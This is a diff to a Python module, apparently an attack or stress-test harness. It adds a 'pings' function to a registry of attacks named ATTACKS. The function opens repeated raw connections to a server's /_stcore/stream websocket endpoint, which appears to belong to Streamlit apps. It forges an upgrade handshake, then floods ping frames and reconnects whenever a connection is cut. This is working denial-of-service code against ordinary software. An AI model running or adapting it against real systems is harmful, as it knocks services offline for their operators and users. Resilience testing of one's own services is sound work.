@@ -8,6 +8,7 @@ import http.client
 import socket
 import sys
 from collections.abc import Awaitable, Callable
+from contextlib import suppress
 from http.cookies import SimpleCookie
 from time import monotonic
 from urllib.parse import urlencode, urlsplit
@@ -61,6 +62,29 @@ async def flood(url: str, seconds: float) -> str:
             pass
         taking.cancel()
         return f"{sent} messages sent"
+
+
+async def pings(url: str, seconds: float) -> str:
+    """As many empty pings as the line takes, and another line whenever one is cut."""
+    parts = urlsplit(url)
+    wish = (
+        f"GET /_stcore/stream HTTP/1.1\r\nHost: {parts.netloc}\r\nUpgrade: websocket\r\n"
+        "Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
+        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
+    )
+    many = b"\x89\x80\0\0\0\0" * 10_000
+    _say_ready()
+    end, lines = monotonic() + seconds, 0
+    while monotonic() < end:
+        _, writer = await asyncio.open_connection(parts.hostname, parts.port)
+        lines += 1
+        writer.write(wish.encode())
+        with suppress(OSError, TimeoutError):
+            while True:
+                writer.write(many)
+                await asyncio.wait_for(writer.drain(), max(0, end - monotonic()))
+        writer.close()
+    return f"{lines} lines"
 
 
 async def heavy(url: str, seconds: float) -> str:
@@ -125,7 +149,7 @@ async def readers(url: str, seconds: float) -> str:
 
 
 ATTACKS: dict[str, Callable[[str, float], Awaitable[str]]] = {
-    act.__name__: act for act in (layers, flood, heavy, visits, uploads, readers)
+    act.__name__: act for act in (layers, flood, pings, heavy, visits, uploads, readers)
 }
 
 
